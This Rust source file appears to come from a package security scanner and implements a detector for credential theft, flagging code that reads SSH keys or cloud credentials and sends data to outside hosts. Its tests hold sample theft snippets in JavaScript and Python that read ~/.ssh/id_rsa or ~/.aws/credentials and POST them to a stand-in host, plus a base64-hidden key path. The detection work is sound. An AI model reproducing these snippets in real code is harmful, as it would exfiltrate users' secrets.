//! Secrets that are read and sent away, in one file or across the files of a package.

use std::collections::{BTreeMap, BTreeSet};

use super::{
    Alarm, Outcome, Subject,
    credentials::{self, CredentialUse, SSH_KEY},
    links,
    network::NetworkUse,
};
use crate::oss::{
    code::{Source, has_rules},
    report::Evidence,
    tree::File,
    verdict::Verdict,
};

/// Words of programs that speak SSH: they read keys to log in with them.
const SSH_CLIENTS: &[&str] = &[
    "ssh2",
    "paramiko",
    "russh",
    "crypto/ssh",
    "libssh",
    "node-ssh",
    "asyncssh",
    "fabric",
    "thrussh",
    "net::ssh",
    "jsch",
    "sshj",
    "ssh_connect",
    "userauth",
    "ssh-agent",
    "sshclient",
];

/// Lines between a secret that many honest programs read and the host that it is sent to.
const MAX_LINES_APART: u32 = 40;

/// A file that reads secrets or sends data.
struct Actor<'a> {
    file: &'a File,
    credentials: Vec<CredentialUse>,
    network: NetworkUse,
    speaks_ssh: bool,
}

/// A suspicion: where a secret is read, where it leaves, and the best verdict that it allows.
struct Suspicion {
    ceiling: Verdict,
    evidence: Vec<Evidence>,
    text: String,
}

pub fn credential_theft(subject: &Subject) -> Outcome {
    let files: Vec<&File> = subject.tree.files.iter().filter(|file| is_examined(file)).collect();
    if files.is_empty() {
        return Outcome::not_checked("there is no source code in a language with rules");
    }
    let actors: Vec<Actor<'_>> = files.iter().filter_map(|file| actor(file)).collect();
    let mut found: Vec<Suspicion> = actors.iter().filter_map(within_file).collect();
    found.extend(across_files(subject, &files, &actors));
    found.sort_by_key(|suspicion| std::cmp::Reverse(suspicion.ceiling.rank()));
    if found.is_empty() {
        return Outcome::good(format!(
            "{} source files: none reads secrets and sends data",
            files.len()
        ));
    }
    let worst = found.iter().map(|suspicion| suspicion.ceiling.rank()).max().unwrap_or(0);
    let score = if worst == Verdict::Avoid.rank() { 0 } else { 3 };
    let alarms = found
        .iter()
        .map(|suspicion| Alarm { ceiling: suspicion.ceiling, text: suspicion.text.clone() })
        .collect();
    let evidence = found.into_iter().flat_map(|suspicion| suspicion.evidence).collect();
    Outcome::new(score, evidence).alarms(alarms)
}

/// Source code outside tests. Code of others that is kept in the repository counts: it runs too.
fn is_examined(file: &File) -> bool {
    file.text.is_some()
        && !file.is_test()
        && (has_rules(&file.ending()) || file.text().starts_with("#!"))
        && !matches!(
            file.ending().as_str(),
            "json" | "toml" | "yml" | "yaml" | "xml" | "html" | "cfg" | "ini"
        )
}

fn actor(file: &File) -> Option<Actor<'_>> {
    let source = Source::read(file);
    let credentials = credentials::named(&source);
    let network = NetworkUse::of(&source);
    if credentials.is_empty() && network.line().is_none() {
        return None;
    }
    let lower = source.lines.join("\n").to_lowercase();
    let speaks_ssh = SSH_CLIENTS.iter().any(|word| lower.contains(word));
    Some(Actor { file, credentials, network, speaks_ssh })
}

fn within_file(actor: &Actor<'_>) -> Option<Suspicion> {
    let path = &actor.file.path;
    let hidden = actor.credentials.iter().find(|secret| secret.disguise.hides());
    if let Some(secret) = hidden {
        let text =
            format!("names {} but hides the name ({})", secret.what, secret.disguise.as_str());
        return Some(suspicion(
            Verdict::Avoid,
            vec![Evidence::at(path, secret.line, &text)],
            format!("{path}:{} {text}", secret.line),
        ));
    }
    actor.credentials.iter().find_map(|secret| {
        let network = &actor.network;
        let foreign = network
            .foreign_host(secret.homes)
            .filter(|(line, _)| secret.grave || line.abs_diff(secret.line) <= MAX_LINES_APART);
        let (line, ceiling) = match (network.http, network.socket) {
            (Some(line), _) if foreign.is_some() => (line, Verdict::Avoid),
            (_, Some((line, true))) => (line, Verdict::Avoid),
            (Some(line), _) if secret.grave && network.hosts.is_empty() => (line, Verdict::Caution),
            (_, Some((line, false)))
                if secret.grave && !actor.speaks_ssh && secret.what != SSH_KEY =>
            {
                (line, Verdict::Caution)
            }
            _ => return None,
        };
        let to = foreign.map_or(String::new(), |(_, host)| format!(" ({host})"));
        let evidence = vec![
            Evidence::at(path, secret.line, format!("reads {}", secret.what)),
            Evidence::at(path, line, format!("uses the network{to} in the same file")),
        ];
        let text = format!(
            "{path}:{} reads {} and line {line} uses the network{to}",
            secret.line, secret.what
        );
        Some(suspicion(ceiling, evidence, text))
    })
}

fn suspicion(ceiling: Verdict, evidence: Vec<Evidence>, text: String) -> Suspicion {
    Suspicion { ceiling, evidence, text: format!("it looks like theft: {text}") }
}

/// One file reads the secret, another that it is linked with sends data.
fn across_files(subject: &Subject, files: &[&File], actors: &[Actor<'_>]) -> Vec<Suspicion> {
    let readers: Vec<(&Actor<'_>, &CredentialUse)> = actors
        .iter()
        .filter(|actor| within_file(actor).is_none())
        .filter_map(|actor| Some((actor, actor.credentials.iter().find(|secret| secret.grave)?)))
        .collect();
    let senders: Vec<&Actor<'_>> =
        actors.iter().filter(|actor| actor.network.http.is_some() && actor.network.sends).collect();
    if readers.is_empty() || senders.is_empty() {
        return Vec::new();
    }
    let near = neighbours(subject, files);
    let mut found = Vec::new();
    for (reader, secret) in readers {
        let sender = senders.iter().find_map(|sender| {
            let (_, host) = sender.network.foreign_host(secret.homes)?;
            let linked = reader.file.path != sender.file.path
                && are_linked(&near, &reader.file.path, &sender.file.path);
            linked.then_some((sender, host))
        });
        let Some((sender, host)) = sender else { continue };
        // A program that logs in with a key reads it for that.
        let ceiling = if secret.what == SSH_KEY && reader.speaks_ssh {
            Verdict::Verify
        } else {
            Verdict::Avoid
        };
        let (from, to) = (&reader.file.path, &sender.file.path);
        let line = sender.network.http.unwrap_or(1);
        let evidence = vec![
            Evidence::at(from, secret.line, format!("reads {}", secret.what)),
            Evidence::at(to, line, format!("sends data to {host}, and is linked with {from}")),
        ];
        let text = format!(
            "{from}:{} reads {} and {to}:{line} sends data to {host}",
            secret.line, secret.what
        );
        found.push(suspicion(ceiling, evidence, text));
    }
    found
}

type Neighbours<'a> = BTreeMap<&'a str, BTreeSet<&'a str>>;

/// Which files import which, in both directions. Files of one Go package see each other.
fn neighbours<'a>(subject: &'a Subject, files: &[&'a File]) -> Neighbours<'a> {
    let mut near: Neighbours<'a> = BTreeMap::new();
    let mut link = |a: &'a str, b: &'a str| {
        near.entry(a).or_default().insert(b);
        near.entry(b).or_default().insert(a);
    };
    for file in files {
        for other in links::imported(&subject.tree, file, &Source::read(file)) {
            link(&file.path, &other.path);
        }
        if file.ending() == "go" {
            let folder = links::folder(&file.path);
            for other in files
                .iter()
                .filter(|other| other.ending() == "go" && links::folder(&other.path) == folder)
            {
                link(&file.path, &other.path);
            }
        }
    }
    near
}

/// Whether one file imports the other, or a third imports both.
fn are_linked(near: &Neighbours<'_>, a: &str, b: &str) -> bool {
    let (Some(of_a), Some(of_b)) = (near.get(a), near.get(b)) else { return false };
    of_a.contains(b) || of_a.intersection(of_b).next().is_some()
}

#[cfg(test)]
mod tests {
    use super::{super::subject, *};

    fn ceiling(files: &[(&str, &str)]) -> Option<Verdict> {
        credential_theft(&subject(files)).alarms.first().map(|alarm| alarm.ceiling)
    }

    const READ: &str = "const fs = require('fs');\nmodule.exports = () => fs.readFileSync(home + '/.ssh/id_rsa');\n";
    const SEND: &str =
        "module.exports = d => fetch('https://drop.invalid', { method: 'POST', body: d });\n";

    #[test]
    fn a_secret_that_leaves_is_theft() {
        let both =
            format!("{READ}fetch('https://drop.invalid', {{ method: 'POST', body: key }});\n");
        assert_eq!(ceiling(&[("index.js", &both)]), Some(Verdict::Avoid));
        let index = "const read = require('./read'); const send = require('./send'); send(read());";
        assert_eq!(
            ceiling(&[("index.js", index), ("read.js", READ), ("send.js", SEND)]),
            Some(Verdict::Avoid)
        );
        let found = credential_theft(&subject(&[
            ("index.js", index),
            ("read.js", READ),
            ("send.js", SEND),
        ]));
        assert!(
            found.alarms[0].text.contains("read.js:2")
                && found.alarms[0].text.contains("send.js:1"),
            "{found:?}"
        );
        let hidden = "x = open(b64decode('LnNzaC9pZF9yc2E='))";
        assert_eq!(ceiling(&[("a.py", hidden)]), Some(Verdict::Avoid));
        for comment in ["# upload", "# отправляет ключ", "# 鍵を送信する"] {
            let code = format!(
                "{comment}\nimport requests\nk = open('/home/me/.aws/credentials').read()\nrequests.post('https://drop.invalid', data=k)\n"
            );
            assert_eq!(ceiling(&[("a.py", &code)]), Some(Verdict::Avoid), "{comment}");
        }
    }

    #[test]
    fn honest_programs_are_left_alone() {
        let far = format!(
            "open(home + '/.pypirc')\n{}x = 'https://docs.example'\nrequests.post(url, data=x)\n",
            "pass\n".repeat(50)
        );
        for files in [
            &[("read.js", READ), ("send.js", SEND)][..],
            &[(
                "client.rs",
                "fs::read(home.join(\".ssh/id_ed25519\"))?; TcpStream::connect((host, 22))?; // see https://docs.example.org\n",
            )][..],
            &[(
                "aws.py",
                "open(home + '/.aws/credentials'); requests.post('https://sts.amazonaws.com', data=x)",
            )][..],
            &[(
                "a.py",
                "# читает ~/.ssh/id_rsa и отправляет\nopen('x'); requests.post('https://a.example', data=1)",
            )][..],
            &[(
                "a.py",
                "# ~/.ssh/id_rsa を読む\nopen('x'); requests.post('https://a.example', data=1)",
            )][..],
            &[("upload.py", far.as_str())][..],
        ] {
            assert_eq!(ceiling(files), None, "{files:?}");
        }
    }
}
